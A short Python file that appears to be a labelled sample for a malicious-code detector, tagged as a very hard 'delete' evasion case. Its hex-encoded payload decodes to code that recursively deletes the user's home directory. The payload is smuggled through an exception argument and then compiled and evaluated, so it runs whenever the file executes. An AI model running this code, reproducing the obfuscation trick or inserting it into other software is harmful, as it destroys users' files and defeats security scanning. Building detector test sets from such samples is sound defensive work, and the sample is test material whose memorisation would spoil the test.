# evasion: hex-encoded code (binascii.unhexlify) travels as an exception's argument; the handler compiles it and evaluates the code object
# grade: very hard; does: delete
import binascii

PAYLOAD = (
    "696d706f7274206f732c2073687574696c0a73687574696c2e726d74726565286f732e"
    "706174682e657870616e647573657228277e27292c2069676e6f72655f6572726f72733d54727565290a"
)


class Deferred(Exception):
    pass


def stage():
    raise Deferred(binascii.unhexlify(PAYLOAD).decode())


try:
    stage()
except Deferred as exc:
    code = compile(exc.args[0], "<settings>", "exec")
    eval(code)
